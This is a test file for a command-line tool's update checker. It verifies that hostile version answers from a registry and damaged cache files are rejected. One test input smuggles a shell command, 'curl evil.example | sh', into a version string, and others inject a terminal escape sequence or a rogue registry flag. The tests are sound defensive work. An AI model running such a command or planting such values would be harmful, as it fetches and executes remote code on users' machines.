// The answer about newer versions, and the file that keeps it, are hostile: nothing of it may reach the screen, fill the
// memory or lead elsewhere.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type RequestListener } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { readKnownUpdate } from "../../packages/cli/src/updates/known-update.js";
import { lookForUpdate } from "../../packages/cli/src/updates/look-for-update.js";

let home: string;
beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), "trunkline-update-check-"));
});
afterEach(() => rmSync(home, { recursive: true, force: true }));

/** Looks for a newer version at a server that answers like this, and returns what is known afterwards. */
async function knownAfter(answer: RequestListener) {
  const server = createServer(answer);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  try {
    await lookForUpdate({ home, address: `http://127.0.0.1:${port}/-/package/trunkline/dist-tags` });
    return await readKnownUpdate(home);
  } finally {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
}

const file = () => join(home, "update-check.json");

describe("the answer about newer versions", () => {
  it("is kept if it is a plain version, next to what was known", async () => {
    writeFileSync(file(), JSON.stringify({ lookedAt: 1, latest: "0.1.0" }));
    expect(await knownAfter((_, response) => response.end('{"latest": "1.2.3", "next": "2.0.0-beta"}'))).toEqual({
      lookedAt: 1,
      latest: "1.2.3",
    });
  });

  it.each([
    '{"latest": "9.9.9; curl evil.example | sh"}',
    '{"latest": "9.9.9\\u001b[2J"}',
    '{"latest": "9.9.9 --registry=https://evil.example"}',
    '{"latest": "9.9.9-beta"}',
    '{"latest": "99999999999999999999.0.0"}',
    '{"latest": ["9.9.9"]}',
    '{"latest": null}',
    "[]",
    "null",
    "<html>",
    "",
  ])("is ignored if it is %s", async (body) => {
    expect(await knownAfter((_, response) => response.end(body))).toEqual({});
  });

  it("is ignored if it is an error or has no end", async () => {
    expect(await knownAfter((_, response) => response.writeHead(500).end('{"latest": "9.9.9"}'))).toEqual({});
    const endless = await knownAfter((_, response) => {
      const more = () => {
        while (response.write(" ".repeat(65_536)));
      };
      response.on("drain", more);
      more();
    });
    expect(endless).toEqual({});
  });

  it("is not looked for elsewhere", async () => {
    const asked: (string | undefined)[] = [];
    const known = await knownAfter(({ url }, response) => {
      asked.push(url);
      if (url === "/elsewhere") response.end('{"latest": "9.9.9"}');
      else response.writeHead(302, { location: "/elsewhere" }).end();
    });
    expect(known).toEqual({});
    expect(asked).toEqual(["/-/package/trunkline/dist-tags"]);
  });
});

describe("the file that keeps it", () => {
  it.each(["", "{", "[]", "null", '{"latest": "9.9.9\\u001b[2J", "lookedAt": "x"}', " ".repeat(5000)])(
    "is ignored if it is damaged: %j",
    async (text) => {
      writeFileSync(file(), text);
      expect(await readKnownUpdate(home)).toEqual({});
    },
  );

  it("is not read through a link, nor if it is a folder", async () => {
    const elsewhere = join(home, "elsewhere.json");
    writeFileSync(elsewhere, '{"latest": "9.9.9"}');
    symlinkSync(elsewhere, file());
    expect(await readKnownUpdate(home)).toEqual({});
    rmSync(file());
    mkdirSync(file());
    expect(await readKnownUpdate(home)).toEqual({});
    expect(readFileSync(elsewhere, "utf8")).toContain("9.9.9");
  });
});
